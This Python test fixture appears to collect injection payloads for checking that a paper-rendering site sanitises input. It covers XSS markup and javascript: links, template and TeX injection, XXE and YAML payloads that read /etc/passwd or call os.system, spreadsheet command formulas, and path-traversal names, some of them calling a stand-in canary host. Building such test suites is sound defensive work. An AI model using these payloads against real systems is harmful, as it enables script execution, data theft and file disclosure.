"""The attacks. Each that can run in a browser tells when it does: it sets `window.hacked`, or it asks the canary.

`CANARY` stands in them for the address of a server of another origin. The families' docstrings say what each is for; a
test lets the first two loose on an unprotected page, so that no attack is in here that could never have worked.
"""

from __future__ import annotations

from collections.abc import Mapping

CANARY = "http://canary.invalid"
"""Replaced by the canary's address before use."""

_RUN = "window.hacked=1"
_PARENT = "parent.hacked=1"

MARKUP: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt >{_RUN}</sCrIpT >",
    "script from elsewhere": f"<script src={CANARY}/script.js></script>",
    "module from elsewhere": f"<script type=module>import '{CANARY}/module.js'</script>",
    "picture that fails": f"<img src=x: onerror={_RUN}>",
    "picture that fails, slashes for spaces": f"<img/src='x:'/onerror='{_RUN}'>",
    "picture from elsewhere": f"<img src={CANARY}/picture.png>",
    "svg that loads": f"<svg onload={_RUN}>",
    "svg with a script": f"<svg><script>{_RUN}</script></svg>",
    "svg that moves": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg with a picture": f"<svg><image href='{CANARY}/image.png'/></svg>",
    "details that open": f"<details open ontoggle={_RUN}>x</details>",
    "field with the focus": f"<input autofocus onfocus={_RUN}>",
    "frame with a document": f'<iframe srcdoc="<script>{_PARENT}</script>"></iframe>',
    "frame with a script": f"<iframe src='javascript:{_PARENT}'></iframe>",
    "frame from elsewhere": f"<iframe src={CANARY}/frame.html></iframe>",
    "object from elsewhere": f"<object data={CANARY}/object.html></object>",
    "embed from elsewhere": f"<embed src={CANARY}/embed.html>",
    "sound that fails": f"<audio src=x: onerror={_RUN}></audio>",
    "film from elsewhere": f"<video src={CANARY}/film.mp4 autoplay></video>",
    "film whose picture is elsewhere": f"<video poster={CANARY}/poster.png></video>",
    "style from elsewhere": f"<link rel=stylesheet href={CANARY}/style.css>",
    "style that imports": f"<style>@import '{CANARY}/import.css';</style>",
    "style in an attribute": f"<p style=\"background:url('{CANARY}/background.png')\">x</p>",
    "style that animates": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={_RUN}>x</p>",
    "another base": f"<base href={CANARY}/><img src=based.png>",
    "page that leaves": f"<meta http-equiv=refresh content='0;url={CANARY}/left.html'>",
    "form that sends itself": f"<form action={CANARY}/form><button autofocus onfocus=this.click()>x</button></form>",
    "end of the title": f"</title><script>{_RUN}</script>",
    "end of a field": f"</textarea><script>{_RUN}</script>",
    "end of a comment": f"--><script>{_RUN}</script>",
    "end of the data": f'"}}</script><script>{_RUN}</script>',
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of the page": f"</p></article></main></body></html><script>{_RUN}</script>",
    "hidden where there are scripts": f'<noscript><p title="</noscript><img src=x: onerror={_RUN}>"></noscript>',
    "markup within a formula": f"<math><mtext><img src=x: onerror={_RUN}></mtext></math>",
    "markup that a tag hides": f"<a title='<b'><img src=x: onerror={_RUN}>",
}
"""Each runs, or asks the canary, as soon as it stands in a page as it is."""

OF_NO_POLICY = frozenset({"markup: page that leaves"})
"""What no Content-Security-Policy stops: only that it never becomes markup does."""

QUOTED: Mapping[str, str] = {
    "end of a double quote": f'"><script>{_RUN}</script>',
    "end of a single quote": f"'><script>{_RUN}</script>",
    "handler behind a double quote": f'" tabindex=0 autofocus onfocus={_RUN} x="',
    "handler behind a single quote": f"' tabindex=0 autofocus onfocus={_RUN} x='",
    "handler without quotes": f"x tabindex=0 autofocus onfocus={_RUN} ",
}
"""The same within an attribute's quotes, or none."""

ADDRESSES: Mapping[str, str] = {
    "script": f"javascript:{_RUN}",
    "script in capitals": f"JaVaScRiPt:{_RUN}",
    "script with a host": f"javascript://example.org/%0a{_RUN}",
    "script behind a blank": f" javascript:{_RUN}",
    "script behind a control character": f"\x01javascript:{_RUN}",
    "script over two lines": f"java\nscript:{_RUN}",
    "script with a tab": f"java\tscript:{_RUN}",
}
"""Each runs when a link with it is followed."""

DEAD_ADDRESSES: Mapping[str, str] = {
    "script as entities": f"&#106;avascript:{_RUN}",
    "script with a named colon": f"javascript&colon;{_RUN}",
    "document": f"data:text/html,<script>{_RUN}</script>",
    "document in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "other script": f"vbscript:{_RUN}",
    "file": "file:///etc/passwd",
    "of the source": f"view-source:{CANARY}/",
    "blob": "blob:null/x",
    "host alone": "//canary.invalid/x",
    "backslashes": "\\\\canary.invalid\\x",
    "end of the attribute": f'https://example.org/"onmouseover="{_RUN}',
    "end of the tag": f"https://example.org/'><script>{_RUN}</script>",
    "no host": "https:///x",
    "broken": "https://[x",
    "somebody's password": "https://user:pass@example.org/",
}
"""Addresses that a browser of today does not run, or that need another hole to run in."""

TEMPLATES: Mapping[str, str] = {
    "jinja": "{{ 7*7 }}{% raw %}{{ config }}{# x",
    "jinja that reads": "{% include '/etc/passwd' %}{% extends 'x' %}{% import 'os' as os %}",
    "jinja that climbs": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "others": "${7*7} #{7*7} <%= 7*7 %> {{=<% %>=}} @(7*7) %(config)s {0.__class__} $(id) `id`",
    "snippet": '--8<-- "README.md"',
    "snippets": '--8<--\nREADME.md\n--8<--\n;--8<-- "x"',
    "marks of the chrome": "\ue000paperstand-body\ue001 \ue000paperstand-title\ue001",
    "marks of markdown": "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03",
}

MARKDOWN: Mapping[str, str] = {
    "link": f"[a](javascript:{_RUN}) [b](JaVaScRiPt&colon;{_RUN}) [c](<javascript:{_RUN}>)",
    "link by name": f"[x]: javascript:{_RUN}\n\n[x] [y][x] <javascript:{_RUN}>",
    "picture": f'![x]({CANARY}/markdown.png) ![x](x "t\\" onerror={_RUN}")',
    "attributes": f"[x](https://example.org){{: onmouseover={_RUN} style=color:red }}",
    "code": f"`<script>{_RUN}</script>`\n\n    <script>{_RUN}</script>\n\n```\n</pre><script>{_RUN}</script>\n```",
    "language of code": f'```"><script>{_RUN}</script>\nx\n```',
    "title of a link": f"[x](https://example.org '\"><script>{_RUN}</script>')",
    "table": f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | x |",
    "deep quotes": ">" * 300 + " x",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(60)),
    "deep brackets": "[" * 1000,
    "deep stars": "*a_" * 500,
    "unclosed link": "[a](" * 500,
}

TEX: Mapping[str, str] = {
    "link": rf"$\href{{javascript:{_RUN}}}{{x}}$ \href{{javascript:{_RUN}}}{{x}} \url{{javascript:{_RUN}}}",
    "style": rf"$\style{{background:url({CANARY}/tex.png)}}{{x}}$ $\class{{x\" onclick=\"{_RUN}}}{{y}}$",
    "picture": rf"$\includegraphics{{{CANARY}/tex.png}}$ \includegraphics{{/etc/passwd}}",
    "html": rf"$\html{{<img src=x onerror={_RUN}>}}$ $\htmlClass{{x}}{{y}}$ $\htmlData{{onclick={_RUN}}}{{y}}$",
    "text": rf"$\text{{<img src=x: onerror={_RUN}>}}$ $\mbox{{</mtext></math><script>{_RUN}</script>}}$",
    "letters": rf"$<script>{_RUN}</script>$ $a < b > c$ $\lt script\gt$ $\unicode{{60}}script$ $\char`\<$",
    "files": r"\input{/etc/passwd} $\input{|id}$ \write18{id} \openin1=/etc/passwd \csname input\endcsname{x}",
    "bomb": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\c$ $\newcommand{\x}{\x\x}\x$",
    "deep": "$" + "{" * 2000 + "x" + "}" * 2000 + "$",
    "deeper": "$" + r"\frac{" * 500 + "1" + "}{2}" * 500 + "$",
    "unclosed": "$" + r"\sqrt{" * 1000 + " $$ $ \\( \\[ \\begin{matrix}",
    "many": "$x$" * 200,
    "mathml": f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
}

LETTERS: Mapping[str, str] = {
    "turned": "\u202eevil\u202c txt.exe",
    "turned without end": "\u202e\u2066\u2067evil",
    "invisible": "in\u200bvi\u200csi\u200dble\u2060\u00ad\ufeff",
    "look-alike": "\u0440\u0430ypal \u0391\u0412\u0421 \uff1cscript\uff1e \u2039script\u203a \u02bc\u0022",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore") + "x",
    "stacked": "z\u0351\u0352\u0353" + "\u0351" * 500,
    "ends of lines": "a\u2028b\u2029c\u0085d\x0be\x0cf\rg\nh\r\ni",
    "not of a text": "a\x00b\x07c\x08d\x1b[31me\x1b]0;title\x07f\x7fg\x9bh",
    "no characters": "a\ufffe\uffff\ufdd0b",
    "plane": "\U0001f9ea" * 400 + "\U0010fffd",
    "wide": "\ufdfa" * 400,
    "case": "\u0130\u0131\u00df\ufb03\u1e9e" * 50,
}

RECORDS: Mapping[str, str] = {
    "bibtex": '}\n}\n@misc{evil, title={evil}}\n@string{x = 1}\n@preamble{"\\input{/etc/passwd}"}',
    "bibtex within a line": "}, note = {evil}} @misc{evil2, title = {x",
    "braces": "{{{{ } }{ \\ % # & _ ^ ~ $ \" ' \\end{document}",
    "ris": "x\nER  - \n\nTY  - JOUR\nTI  - evil\nER  - \n",
    "sheet, a formula": f'=HYPERLINK("{CANARY}/sheet","x")',
    "sheet, a command": "+cmd|' /C calc'!A0",
    "sheet, a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sheet, a number": '-2+3,"x\n",=1',
    "mail": "x\r\nBcc: evil@example.org\r\nContent-Type: text/html\r\n\r\n<script>",
    "mail, encoded": "=?utf-8?q?=0d=0aBcc=3a_evil=40example.org?=",
    "xml": "]]><evil/><!-- -- --> <?evil?> <!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;&amp;amp;&#0;",
    "xml that includes": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
    "xml that runs": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    "json": '"},{"id":"evil"}],"x":["\\u0000\\ud800',
    "yaml": "---\nid: evil\n--- !!python/object/apply:os.system [id]\n&a [*a, *a]\n'\"{[: - ? | > %",
    "yaml in a line": "x: {y: z}, 'a': [b, #c",
    "end of the front matter": "x\n---\n\n# evil",
    "workflow": "::error file=x::evil %0A::set-output name=x::y ::add-mask::x ##[command]",
    "path": "../../../../etc/passwd ..\\..\\x C:\\con /dev/null aux.txt",
}

LONG: Mapping[str, str] = {
    "word": "W" * 5_000,
    "words": "lorem " * 500,
    "spaces": "a" + " " * 50_000 + "b",
    "brackets": "<" * 500 + "(" * 500 + "&" * 500,
    "dashes": "a-" * 1_000,
    "dollars": "$" * 500 + "\\" * 501,
}

FAMILIES: Mapping[str, Mapping[str, str]] = {
    "markup": MARKUP,
    "quoted": QUOTED,
    "address": ADDRESSES,
    "dead address": DEAD_ADDRESSES,
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "tex": TEX,
    "letters": LETTERS,
    "records": RECORDS,
    "long": LONG,
}

ATTACKS: Mapping[str, str] = {
    f"{family}: {name}": text for family, attacks in FAMILIES.items() for name, text in attacks.items()
}
"""All of them, by family and name."""

IDENTIFIERS = (
    "../../../etc/passwd",
    "..",
    ".",
    "",
    "/etc/passwd",
    "2601.00001/../../x",
    "2601.00001\x00.md",
    "2601.00001\n",
    "\u0662\u0666\u0660\u0661.\u0660\u0660\u0660\u0660\u0661",
    "2601.0000\u0661",
    "con",
    "aux",
    "nul",
    "com1",
    "lpt9",
    "doi",
    "CON",
    "con.md",
    "c\u043en",
    "cs/../../x",
    "math/0000000",
    "10.1000/../../../x\x00",
    "<script>",
    "{{7*7}}",
    "-rf",
    "--help",
    "x" * 300,
    ".git/hooks/pre-commit",
    "a\\b",
    "C:\\x",
    "%2e%2e%2fx",
)
"""What names no paper, and must never name a file."""
